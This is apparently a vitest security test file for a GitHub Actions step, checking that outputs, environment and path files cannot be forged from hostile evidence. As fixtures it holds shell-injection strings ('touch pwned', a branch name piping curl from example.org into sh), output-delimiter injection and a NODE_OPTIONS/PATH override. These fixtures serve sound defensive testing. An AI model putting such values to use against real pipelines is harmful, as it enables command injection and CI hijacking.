import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { OUTPUT_NAMES } from '../../src/publish/outputs.ts';
import { junit } from '../command/workspace.ts';
import { temporaryFolder } from '../host/local/temporary-repository.ts';
import { openDouble } from './github-double.ts';
import { pullEvent, pushEvent } from './github-events.ts';
import { runStep, type Step, type StepCall } from './github-step.ts';
import { commandsOf, pairsIn } from './hostile-step.ts';

const DELIMITERS = 'x\nEOF\noutcome=pass\noutcome<<ghadelimiter_0\npass\nghadelimiter_0\n';
const SHELL = '"; touch pwned; $(touch pwned) `touch pwned` #';

/** `lines`: the output file as it is; `pairs`: as the runner reads it. */
type Written = Step & Readonly<{ lines: string; pairs: readonly (readonly [string, string])[] }>;

async function onPush(call: Partial<StepCall>): Promise<Step> {
  const double = await openDouble();
  const sha = await double.push('main', { 'README.md': '# Shop\n' });
  return runStep({ double, event: pushEvent(double, { sha }), ...call });
}

async function written(call: Partial<StepCall>): Promise<Written> {
  const output = join(temporaryFolder(), 'output');
  writeFileSync(output, '');
  const step = await onPush({ ...call, env: { GITHUB_OUTPUT: output, ...call.env } });
  return { ...step, lines: readFileSync(output, 'utf8'), pairs: pairsIn(output) };
}

/** A word, a number, an id, a commit, an address or a path: nothing that a shell would do something with, but for the quotes that a path may need. */
const SAFE = /^(?:[a-z0-9-]*|RUN-\d+|https?:\/\/[\w.:/#%-]+|\/[\w./-]+)$/;

describe('the outputs of a step', () => {
  it('SEC-07: are exactly those that we declare, whatever stands in the evidence', async () => {
    const step = await written({
      files: { 'out/junit.xml': junit({ [DELIMITERS]: DELIMITERS, adds: null }), [`out/notes ${SHELL}.md`]: `# Notes\n\n## Key findings\n\n- ${DELIMITERS}\n` },
      inputs: { reports: 'test: out/junit.xml', notes: 'out/*.md', scope: DELIMITERS },
    });
    expect(step.pairs.map(([name]) => name).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(Object.fromEntries(step.pairs)).toMatchObject({ outcome: 'failed', recorded: 'true', 'findings-open': '1' });
    for (const [name, value] of step.pairs) expect(value, name).toMatch(SAFE);
  });

  it('SEC-07: are not written where a value would hold a line end', async () => {
    const temporary = join(temporaryFolder(), 'a\noutcome=pass\nb');
    mkdirSync(temporary);
    const step = await written({ inputs: { outcomes: 'test: success' }, env: { RUNNER_TEMP: temporary } });
    expect(step.status).toBe(1);
    expect(Object.fromEntries(step.pairs)['outcome']).toBe('failed');
    expect(step.pairs.filter(([name, value]) => !SAFE.test(name) || !SAFE.test(value))).toEqual([]);
    expect(step.err).toContain('WRITE_FAILED');
  });

  it('SEC-08, SEC-09: hold neither the name of a branch nor that of a file', async () => {
    const double = await openDouble();
    const head = 'a";curl${IFS}example.org|sh;#$(id)`id`';
    await double.push('main', { 'README.md': '# Shop\n' });
    await double.push(head, { '$(touch pwned).ts': 'x\n', ';id;.ts': 'x\n', '-rf.ts': 'x\n', 'a b\'c"d.ts': 'x\n' }, { from: 'refs/heads/main' });
    const pull = await double.openPull({ head, base: 'main' });
    const step = await runStep({ double, event: pullEvent(double, pull, { head }), files: { 'out/junit.xml': junit({ [SHELL]: SHELL }) }, inputs: { reports: 'test: out/junit.xml', scope: SHELL }, actor: SHELL });
    expect(step.outputs).toMatchObject({ outcome: 'failed', recorded: 'true' });
    for (const [name, value] of Object.entries(step.outputs)) expect(value, name).toMatch(SAFE);
    expect(step.summary).toContain('touch pwned');
  });

  for (const [what, path] of Object.entries({ 'is not set': '', 'is missing': '/nowhere/output', 'is a folder': tmpdir(), 'cannot be written': '/dev/full' })) {
    it(`SEC-10: fail the step and say so where their file ${what}`, async () => {
      const step = await onPush({ inputs: { outcomes: 'test: success' }, env: { GITHUB_OUTPUT: path } });
      expect(step.status).toBe(1);
      expect(step.err).toContain('WRITE_FAILED');
      expect(step.summary).toContain('WRITE_FAILED');
      expect(commandsOf(step)).toEqual(['error']);
    });
  }

  it('SEC-11: stay small whatever the size of the results', async () => {
    const names = Array.from({ length: 3_000 }, (_, at): [string, string] => [`${at} ${'long name '.repeat(20)}`, 'expected 1 to be 2']);
    const step = await written({ files: { 'out/junit.xml': junit(Object.fromEntries(names)) }, inputs: { reports: 'test: out/junit.xml' } });
    expect(Object.fromEntries(step.pairs)).toMatchObject({ outcome: 'failed', recorded: 'true', 'findings-open': '3000' });
    expect(step.lines.length).toBeLessThan(4_000);
    expect(Buffer.byteLength(step.summary)).toBeLessThan(1_000_000);
  });

  it('SEC-12: are all that is written for the steps after: neither environment nor path nor state', async () => {
    const folder = temporaryFolder();
    const files = ['GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_STATE'].map((name) => [name, join(folder, name)] as const);
    for (const [, path] of files) writeFileSync(path, '');
    const report = junit({ 'x\nNODE_OPTIONS=--require=/tmp/x.js\n': 'PATH<<EOF\n/tmp\nEOF\n' });
    for (const inputs of [{ reports: 'test: out/junit.xml' }, { reports: 'nothing' }, { command: 'check' }]) {
      await onPush({ files: { 'out/junit.xml': report, 'docs/AUDIT_RUN_LOG.md': '# Log\n' }, inputs, env: Object.fromEntries(files) });
    }
    for (const [name, path] of files) expect(readFileSync(path, 'utf8'), name).toBe('');
  });
});
